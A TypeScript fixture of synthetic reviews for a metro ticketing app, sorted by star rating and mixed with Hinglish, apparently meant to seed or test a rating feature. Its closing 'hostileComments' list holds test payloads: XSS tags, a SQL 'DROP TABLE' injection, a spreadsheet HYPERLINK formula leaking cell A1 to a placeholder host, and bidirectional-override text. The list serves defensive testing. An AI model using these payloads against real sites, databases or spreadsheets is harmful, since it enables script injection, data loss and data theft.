/** Comments of ratings, from one star to five. `{station}` is filled in. */
export const comments: Readonly<Record<1 | 2 | 3 | 4 | 5, readonly string[]>> = {
  1: [
    'Paisa kat gaya, ticket nahi aaya. Worst app.',
    'Payment failed three times and money is still not back.',
    'App crashes the moment I open my tickets. Stood at the gate at {station} like a fool.',
    'OTP nahi aata. Bina login ke kya karein?',
    'Uninstalling. The QR does not scan at {station}, every single day.',
    'Too many ads, and the ticket is three taps further away than before.',
    'Refund pending for 9 days. Customer care only says "please wait".',
    'Logged me out and lost my card. Pathetic.',
    'Battery khatam karta hai yaar.',
    'Update ke baad app khulta hi nahi.',
  ],
  2: [
    'Slow. By the time the QR loads the train is gone.',
    'Good idea, bad execution. Hangs on the payment page.',
    'Needs too much internet. No network inside {station}, so no ticket.',
    'Points expire before anyone can use them.',
    'Card recharge shows pending since yesterday.',
    'Timings are wrong on Sundays.',
    'Brightness auto badhni chahiye QR dikhate waqt.',
    'Language keeps going back to English.',
  ],
  3: [
    'Okay app. Does the job when the network is good.',
    'Theek hai. Fare calculator could be easier to find.',
    'Works, but please let me save my daily route.',
    'Average. Booking is fine, history is confusing.',
    'Nice colours, but the text is too small for my father.',
    'Ticket ho jaata hai but 2-3 baar try karna padta hai.',
    'Please add wallet balance on the first page.',
    'Good for single tickets. Group booking is painful.',
  ],
  4: [
    'Very useful. No more queue at {station}.',
    'Fast enough, points are a nice touch.',
    'Accha app hai, bas dark mode chahiye.',
    'Smooth since the last update.',
    'Booking in 10 seconds. One star less because refunds take a week.',
    'Return ticket option saves time.',
    'Good. Would love live train timing.',
    'UPI is quick. Card recharge took a while to reflect.',
  ],
  5: [
    'Excellent! Line mein khade rehne ka jhanjhat khatam.',
    'Best transit app in the city.',
    'Love the points. Got ₹30 off on my trip to {station}.',
    'Super smooth, even my mother uses it now.',
    'Ekdum mast. Ticket in two taps.',
    'Works every morning without fail. Thank you team.',
    'Clean, quick, no nonsense.',
    'Bahut badhiya 👍',
    'QR scans on the first try now. Well done.',
    '5 stars for the return ticket and for the staff at {station}.',
  ],
};

/** Sentences that are added to some comments, so that few are alike. */
export const afterwords: readonly string[] = [
  'Please fix.',
  'Keep it up!',
  'Using it since last year.',
  'Daily commuter here.',
  'Thanks.',
  'Hope someone reads this.',
  'Will change my rating if solved.',
  'My phone is two years old.',
  'Otherwise fine.',
  'Jai Hind.',
];

/** Comments with hostile text, to test screens and files. */
export const hostileComments: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("https://example.invalid/?"&A1,"refund here")',
  '<script>document.title = "hacked"</script> nice app',
  "'; DROP TABLE ratings; --",
  '+91-98200-00000 call me @home',
  'مترو جيد جدا · metro ‮esrever‬ text',
];
